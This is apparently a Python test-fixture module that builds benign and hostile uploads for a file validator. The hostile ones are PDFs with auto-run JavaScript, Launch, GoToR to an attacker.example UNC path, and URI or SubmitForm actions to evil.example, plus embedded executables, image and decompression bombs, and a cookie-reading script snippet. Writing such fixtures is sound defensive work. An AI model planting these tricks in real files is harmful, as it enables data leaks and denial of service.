"""Real files: what a scanner or phone would send, and what an attacker would try
instead. The plain ones are made byte by byte; the hostile PDFs are written by pikepdf
(qpdf) or, where a writer would not produce the trick, byte by byte; images by Pillow."""

import io
import struct
import zipfile
import zlib

MB = 1024 * 1024


def _pdf(objects: list[bytes], *, version: bytes = b"1.4") -> bytes:
    """A PDF with a classic cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (Hello) Tj ET"


def pdf(catalog_extra: bytes = b"", *, extra_objects: list[bytes] | None = None) -> bytes:
    """A one-page PDF that says Hello; ``catalog_extra`` goes into the catalog dictionary."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(b"", PAGE_CONTENT),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(extra_objects or []),
        ]
    )


def pdf_with_javascript(action_name: bytes = b"/JavaScript") -> bytes:
    return pdf(b"/OpenAction 6 0 R ", extra_objects=[b"<< /S " + action_name + b" /JS (app.alert\\(1\\)) >>"])


def pdf_with_object_stream(
    catalog_extra: bytes = b"", *, dictionary: bytes = b"/Type /ObjStm", hex_encoded: bool = False
) -> bytes:
    """A PDF 1.5 whose catalog and page tree sit in a Flate-compressed object stream
    (object 6), found through a cross-reference stream (object 7). ``hex_encoded``:
    ASCIIHex instead of Flate, so no name of the packed objects shows in the file;
    ``dictionary`` may put anything between the stream's type and its data."""
    packed = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
    ]
    header, body = [], b""
    for number, obj in enumerate(packed, start=1):
        header.append(b"%d %d" % (number, len(body)))
        body += obj + b"\n"
    head = b" ".join(header) + b"\n"
    compressed = (head + body).hex().encode() + b">" if hex_encoded else zlib.compress(head + body)
    stream_filter = b"/ASCIIHexDecode" if hex_encoded else b"/FlateDecode"

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    offsets[4] = len(out)
    out += b"4 0 obj\n" + _stream(b"", PAGE_CONTENT) + b"\nendobj\n"
    offsets[5] = len(out)
    out += b"5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n"
    offsets[6] = len(out)
    out += (
        b"6 0 obj\n"
        + _stream(dictionary + b" /N %d /First %d /Filter " % (len(packed), len(head)) + stream_filter, compressed)
        + b"\nendobj\n"
    )
    offsets[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 6, index) for index in range(len(packed))]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (4, 5, 6, 7)]
    xref = zlib.compress(b"".join(rows))
    out += (
        b"7 0 obj\n" + _stream(b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode", xref) + b"\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2) -> bytes:
    """A red RGB image."""
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(rows))
        + _chunk(b"IEND", b"")
    )


def _segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def jpeg() -> bytes:
    """A 1×1 grey baseline JPEG: one Huffman code each for DC 0 and end-of-block."""
    return (
        b"\xff\xd8"
        + _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + _segment(0xDB, b"\x00" + b"\x01" * 64)
        + _segment(0xC0, b"\x08\x00\x01\x00\x01\x01\x01\x11\x00")
        + _segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")  # DC table 0: code "0" -> 0
        + _segment(0xC4, b"\x10" + b"\x01" + b"\x00" * 15 + b"\x00")  # AC table 0: code "0" -> EOB
        + _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # bits 0 (DC diff 0), 0 (EOB), padded with ones
        + b"\xff\xd9"
    )


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


OFD_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD">'
    b"<ofd:DocBody><ofd:DocInfo><ofd:DocID>6f6664</ofd:DocID></ofd:DocInfo>"
    b"<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
)


def ofd() -> bytes:
    return _zip(
        {
            "OFD.xml": OFD_XML,
            "Doc_0/Document.xml": b'<?xml version="1.0"?><ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>',
        }
    )


def plain_zip() -> bytes:
    return _zip({"readme.txt": b"not an OFD", "Doc_0/OFD.xml": OFD_XML})


def zip_with_many_entries(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("OFD.xml", OFD_XML)
        for number in range(count):
            archive.writestr(f"e/{number}", b"")
    return buffer.getvalue()


def windows_executable() -> bytes:
    """The head of a PE file: "MZ", the DOS stub, "PE\\0\\0"."""
    stub = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64)
    return stub + b"\x00" * (64 - len(stub)) + b"PE\x00\x00" + b"\x00" * 200


# -- Hostile PDFs, written by pikepdf ----------------------------------------------------


def written_pdf(change=None, *, object_streams: bool = True) -> bytes:
    """A one-page PDF saved by qpdf, with object streams (where a PDF 1.5 writer hides
    dictionaries) unless told otherwise; ``change(pdf)`` adds what the test needs."""
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(document)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    document.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def action(**entries):
    import pikepdf

    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **entries)


def hostile_pdfs() -> dict[str, tuple[bytes, str]]:
    """name → (file, the reason it must be refused for), each written by pikepdf."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    def open_action(**entries):
        def change(document):
            document.Root.OpenAction = action(**entries)

        return change

    def page_event(**entries):
        def change(document):
            document.pages[0].obj.AA = Dictionary(O=action(**entries))  # on page open

        return change

    def javascript_name_tree(document):
        script = document.make_indirect(action(S=Name.JavaScript, JS=String("app.alert(1)")))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))

    def link(annotation_entries):
        def change(document):
            annotation = Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([10, 10, 200, 40]),
                Border=Array([0, 0, 0]),
                **annotation_entries,
            )
            document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])

        return change

    def field_event(document):
        widget = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([10, 10, 200, 40]),
            AA=Dictionary(Bl=action(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))),
        )
        field = document.make_indirect(widget)
        document.pages[0].obj.Annots = Array([field])
        document.Root.AcroForm = Dictionary(Fields=Array([field]))

    def embedded_file(document):
        document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
            document, b"MZ\x90\x00", mime_type="application/octet-stream"
        )

    def xfa(document):
        document.Root.AcroForm = Dictionary(
            Fields=Array(), XFA=document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        )

    def next_chain(document):
        then = document.make_indirect(action(S=Name.JavaScript, JS=String("app.alert(1)")))
        document.Root.OpenAction = action(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=then)

    return {
        "javascript in the name tree, in an object stream": (written_pdf(javascript_name_tree), "javascript"),
        "OpenAction URI": (written_pdf(open_action(S=Name.URI, URI=String("https://evil.example/"))), "uri"),
        "OpenAction GoToR to a UNC path": (
            written_pdf(
                open_action(S=Name.GoToR, F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit]))
            ),
            "remote",
        ),
        "OpenAction GoToE": (
            written_pdf(open_action(S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N=String("a")))),
            "remote",
        ),
        "OpenAction Launch": (written_pdf(open_action(S=Name.Launch, F=String("calc.exe"))), "launch"),
        "page-open event URI": (written_pdf(page_event(S=Name.URI, URI=String("https://evil.example/"))), "uri"),
        "page-open event SubmitForm": (
            written_pdf(page_event(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))),
            "submit",
        ),
        "field event SubmitForm": (written_pdf(field_event), "submit"),
        "annotation mouse-enter URI": (
            written_pdf(link({"AA": Dictionary(E=action(S=Name.URI, URI=String("https://evil.example/")))})),
            "uri",
        ),
        "link that runs JavaScript": (
            written_pdf(link({"A": action(S=Name.JavaScript, JS=String("app.alert(1)"))})),
            "javascript",
        ),
        "JavaScript after a GoTo on open": (written_pdf(next_chain), "javascript"),
        "embedded file": (written_pdf(embedded_file), "embedded"),
        "XFA form": (written_pdf(xfa), "xfa"),
    }


def pdf_with_a_link(uri: str = "https://www.jl.gov.cn/") -> bytes:
    """A link the reader clicks: ordinary, and accepted."""
    from pikepdf import Array, Dictionary, Name, String

    def change(document):
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([10, 10, 200, 40]),
            A=action(S=Name.URI, URI=String(uri)),
        )
        document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])

    return written_pdf(change)


def incremental_update(original: bytes, catalog_extra: bytes = b"") -> bytes:
    """``original`` (written by ``pdf()``, catalog object 1, a classic table) followed by
    an incremental update that replaces the catalog, as a signing tool or an editor's
    quick save appends one: a new catalog, a cross-reference section, a trailer with
    /Prev, and a second %%EOF."""
    previous = int(original.rsplit(b"startxref", 1)[1].split()[0])
    size = int(original.rsplit(b"/Size", 1)[1].split()[0])
    out = bytearray(original)
    offset = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (zh-CN) " + catalog_extra + b">>\nendobj\n"
    xref = len(out)
    out += b"xref\n1 1\n%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, xref)
    return bytes(out)


# -- Images written by Pillow, and bombs ---------------------------------------------------


def pillow_image(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **options) -> bytes:
    from PIL import Image

    image = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    image.save(out, format=kind, **options)
    return out.getvalue()


def phone_photo() -> bytes:
    """A JPEG with the EXIF a phone writes (maker, model, time)."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0132] = "HUAWEI", "P60", "2026:11:28 09:30:00"
    return pillow_image("JPEG", exif=exif.tobytes())


def phone_photo_with_a_second_picture() -> bytes:
    """A multi-picture JPEG (MPF), as phones write a primary image with a depth or gain
    map after it: a whole second JPEG follows the first one's end-of-image."""
    from PIL import Image

    out = io.BytesIO()
    first, second = Image.new("RGB", (64, 48), (10, 10, 200)), Image.new("RGB", (32, 24), (0, 0, 0))
    first.save(out, format="MPO", save_all=True, append_images=[second])
    return out.getvalue()


def png_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A PNG whose header declares ``width`` × ``height`` RGB pixels (4.8 GB decoded at
    the default) over a few bytes of data: the decoder would allocate from the header."""
    rows = zlib.compress(b"\x00" * (1 + 3 * 100))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _chunk(b"IDAT", rows)
        + _chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int = 65_500, height: int = 65_500) -> bytes:
    """A real JPEG whose frame header (SOF0) is changed to claim ``width`` × ``height``."""
    data = bytearray(pillow_image("JPEG"))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def png_with_text(key: bytes, text: bytes) -> bytes:
    """``png()`` with a tEXt chunk before IEND."""
    plain = png()
    end = plain.index(b"IEND") - 4
    return plain[:end] + _chunk(b"tEXt", key + b"\x00" + text) + plain[end:]


def jpeg_with_comment(text: bytes) -> bytes:
    """``jpeg()`` with a COM segment after the start-of-image."""
    plain = jpeg()
    return plain[:2] + _segment(0xFE, text) + plain[2:]


HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def ofd_with_comment(comment: bytes) -> bytes:
    buffer = io.BytesIO(ofd())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.comment = comment
    return buffer.getvalue()


def ofd_with_a_gap(filler: bytes) -> bytes:
    """An OFD with ``filler`` between its last entry and the central directory (the
    directory's offset moved to match), which ZIP readers skip over."""
    data = ofd()
    record = data.rindex(b"PK\x05\x06")
    directory_size, directory_offset = struct.unpack_from("<II", data, record + 12)
    out = bytearray(data[:directory_offset] + filler + data[directory_offset:])
    struct.pack_into("<I", out, record + len(filler) + 16, directory_offset + len(filler))
    return bytes(out)


def pdf_of_size(size: int) -> bytes:
    """A one-page PDF with an image stream, exactly ``size`` bytes long."""

    def build(filler: int) -> bytes:
        image = _stream(b"/Type /XObject /Subtype /Image /Filter /DCTDecode", b"\x01" * filler)
        return pdf(b"", extra_objects=[image])

    filler = size - len(build(0))
    while len(content := build(filler)) != size:  # the length fields grow by their digits
        filler -= len(content) - size
    return content


def pdf_with_many_objects(count: int) -> bytes:
    """A PDF of ``count`` tiny objects packed in one object stream, listed by a
    cross-reference stream: a few bytes each, but a parser holds every one."""
    head = b" ".join(b"%d %d" % (number + 3, 2 * number) for number in range(count)) + b"\n"
    packed = zlib.compress(head + b"0 " * count, 9)
    out = bytearray(b"%PDF-1.5\n")
    offsets = [len(out)]
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    offsets.append(len(out))
    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    container = count + 3
    container_at = len(out)
    out += (
        b"%d 0 obj\n" % container
        + _stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (count, len(head)), packed)
        + b"\nendobj\n"
    )
    rows = [struct.pack(">BII", 0, 0, 65535)] + [struct.pack(">BII", 1, at, 0) for at in offsets]
    rows += [struct.pack(">BII", 2, container, index) for index in range(count)]
    xref_at = len(out)
    rows += [struct.pack(">BII", 1, container_at, 0), struct.pack(">BII", 1, xref_at, 0)]
    table = _stream(
        b"/Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Filter /FlateDecode" % (container + 2),
        zlib.compress(b"".join(rows)),
    )
    out += b"%d 0 obj\n" % (container + 1) + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def password_protected_pdf() -> bytes:
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def pdf_with_inflating_object_stream(megabytes: int) -> bytes:
    """``pdf_with_object_stream`` whose object stream inflates to ``megabytes`` MB of
    spaces after its objects (a decompression bomb for the parser), compressed a
    megabyte at a time so the test never holds the whole."""
    plain = pdf_with_object_stream()
    start = plain.index(b"stream\n", plain.index(b"/Type /ObjStm")) + len(b"stream\n")
    end = plain.index(b"\nendstream", start)
    compressor = zlib.compressobj(9)
    bomb = compressor.compress(zlib.decompress(plain[start:end]))
    block = b" " * MB
    for _ in range(megabytes):
        bomb += compressor.compress(block)
    bomb += compressor.flush()
    dictionary_start = plain.rindex(b"<<", 0, start)
    dictionary = plain[dictionary_start:start].replace(b"/Length %d" % (end - start), b"/Length %d" % len(bomb))
    body = plain[:dictionary_start] + dictionary + bomb + plain[end:]
    # The cross-reference stream's offset moved: point startxref and the XRef row at it.
    return _with_xref_moved(body, len(bomb) - (end - start) + len(dictionary) - (start - dictionary_start))


def _with_xref_moved(content: bytes, shift: int) -> bytes:
    head, tail = content.rsplit(b"startxref\n", 1)
    old = int(tail.split(b"\n", 1)[0])
    return head + b"startxref\n%d\n%%%%EOF\n" % (old + shift)
